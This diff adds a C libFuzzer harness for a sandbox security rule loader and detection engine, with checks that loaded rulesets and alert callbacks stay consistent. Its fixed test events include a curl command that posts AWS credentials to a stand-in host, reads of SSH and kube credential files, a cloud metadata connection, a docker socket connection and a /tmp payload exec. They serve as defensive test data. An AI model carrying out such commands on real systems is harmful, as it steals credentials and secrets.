@@ -1,0 +1,171 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/*
+ * libFuzzer target: one rule file. ruleset__add_text and ruleset__finish
+ * must load it or refuse it with a counted, positioned error; a set that
+ * loads must be whole (every rule compiled, an index, a fallback
+ * profile) and run a fixed series of events through an engine: every
+ * kind of record, two sandboxes (one naming the file's first profile),
+ * times far enough apart for risk to decay and windows to slide, then
+ * absolution and forgetting. ASan and LSan watch memory.
+ *
+ * The loader's messages go to the stdio stream stderr, pointed at
+ * /dev/null as in fuzz_config.c (FUZZ_RULES_VERBOSE=1 keeps them).
+ */
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "engine.h"
+#include "../unit/evtest.h"
+
+int LLVMFuzzerInitialize(int *argc, char ***argv);
+int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
+
+#define SEC 1000000000ull
+#define NR_EVENTS 12
+
+static FILE *real_stderr;
+static struct tev events[NR_EVENTS];
+
+#define CHECK(cond)							\
+	do {								\
+		if (!(cond)) {						\
+			fprintf(real_stderr, "fuzz_rules: %s:%d: %s\n",	\
+				__FILE__, __LINE__, #cond);		\
+			abort();					\
+		}							\
+	} while (0)
+
+static void events__make(void)
+{
+	struct tev *t = events;
+
+	tev__exec(t++, 1, "/usr/bin/curl",
+		  "curl|-s|http://x|-d|@/root/.aws/credentials");
+	tev__open(t++, 2, "/root/.ssh/id_rsa", 0);
+	tev__open(t++, 3, "/home/u/.kube/config", 01101);
+	tev__connect(t++, 4, "169.254.169.254", 80);
+	tev__connect(t++, 5, "::ffff:10.1.2.3", 443);
+	tev__connect(t++, 6, "/run/docker.sock", 0);
+	tev__flow(t++, 7, "2001:db8::1", 443, 200u << 20);
+	tev__exec(t++, 8, "/tmp/payload", "payload");
+	tev__init(t, EVENT_FORK, 9);
+	t++->ev.child_pid = 101;
+	tev__init(t, EVENT_EXIT, 10);
+	t++->ev.exit_code = 9;
+	tev__exec(t++, 11, "", "./missing");
+	tev__open(t++, 12, "", 0);
+}
+
+int LLVMFuzzerInitialize(int *argc, char ***argv)
+{
+	FILE *null = fopen("/dev/null", "w");
+
+	real_stderr = stderr;
+	if (null && !getenv("FUZZ_RULES_VERBOSE"))
+		stderr = null;
+	events__make();
+	return 0;
+}
+
+static void on_alert(void *ctx, const struct event *ev, const struct match *m,
+		     const struct sb_state *sb)
+{
+	const struct ruleset *rs = ctx;
+
+	CHECK(m->rule && m->rule->index >= 0 &&
+	      (size_t)m->rule->index < rs->nr_rules &&
+	      rs->rules[m->rule->index] == m->rule);
+	CHECK(m->rule->events & EVBIT(ev->kind));
+	CHECK(m->score >= 0 && m->risk >= 0);
+	CHECK(sb->level != LEVEL_KILL);
+}
+
+static void on_act(void *ctx, const struct event *ev, enum act_level level,
+		   const struct rule *rule, const struct sb_state *sb)
+{
+	CHECK(level > LEVEL_NONE && level <= LEVEL_KILL);
+	CHECK(sb->level == level);
+	CHECK(!rule || rule->action == level ||
+	      sb->profile->tune[rule->index].action == level);
+}
+
+/* A set that loaded is whole. */
+static void check_loaded(const struct ruleset *rs)
+{
+	CHECK(rs->errors == 0 && rs->first_error[0] == '\0');
+	CHECK(rs->index && rs->fallback && rs->fallback->tune);
+	CHECK(rs->nr_taints >= 0 && rs->nr_taints <= RULES_MAX_TAINTS);
+	for (size_t i = 0; i < rs->nr_rules; i++) {
+		const struct rule *r = rs->rules[i];
+
+		CHECK(r->when && r->events && r->description);
+		CHECK(r->index == (int)i);
+		CHECK(r->taint >= -1 && r->taint < rs->nr_taints);
+		CHECK(r->when->depth >= 1 && r->when->depth <= COND_MAX_DEPTH);
+		CHECK(!r->window || (r->window->over_ns > 0 &&
+				     r->window->above >= 0 &&
+				     r->window->slot < rs->nr_windows));
+	}
+	for (size_t i = 0; i < rs->nr_profiles; i++) {
+		const struct profile *p = rs->profiles[i];
+
+		CHECK(p->tune && p->half_life_ns > 0);
+		CHECK(p->threshold[LEVEL_ALERT] < p->threshold[LEVEL_FREEZE] &&
+		      p->threshold[LEVEL_FREEZE] < p->threshold[LEVEL_KILL]);
+	}
+}
+
+static void count(void *arg, const struct sb_state *sb)
+{
+	(*(int *)arg)++;
+}
+
+/* The fixed events, in sandbox 7 (no profile) and 8 (the file's first
+ * profile, or an unknown name), twice, the second time an hour later. */
+static void run(const struct ruleset *rs)
+{
+	const struct engine_hooks hooks = { (void *)rs, on_alert, on_act };
+	struct engine *e = engine__new(rs, &hooks);
+	const char *profile = rs->nr_profiles ? rs->profiles[0]->name : "x";
+	int n = 0;
+
+	if (!e)
+		return;
+	for (int pass = 0; pass < 2; pass++)
+		for (int i = 0; i < NR_EVENTS; i++) {
+			struct tev *t = &events[i];
+
+			t->ev.ktime_ns = pass * 3600 * SEC + i * SEC;
+			tev__sandbox(t, 7, "sb-7", NULL);
+			engine__event(e, &t->ev);
+			tev__sandbox(t, 8, "sb-8", profile);
+			engine__event(e, &t->ev);
+		}
+	CHECK(engine__stats(e)->events == 4 * NR_EVENTS);
+	engine__each(e, count, &n);
+	CHECK(n == 2);
+	CHECK(engine__risk(engine__sandbox(e, 7), 7200 * SEC) >= 0);
+	engine__absolve(e, 8);
+	engine__event(e, &events[0].ev);
+	engine__forget(e, 7);
+	engine__free(e);
+}
+
+int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
+{
+	struct ruleset rs;
+
+	CHECK(ruleset__init(&rs) == 0);
+	ruleset__add_text(&rs, "fuzz.yaml", (const char *)data, size);
+	if (ruleset__finish(&rs) == 0) {
+		check_loaded(&rs);
+		run(&rs);
+	} else {
+		CHECK(rs.errors > 0 &&
+		      !strncmp(rs.first_error, "fuzz.yaml:", 10));
+	}
+	ruleset__fini(&rs);
+	return 0;
+}
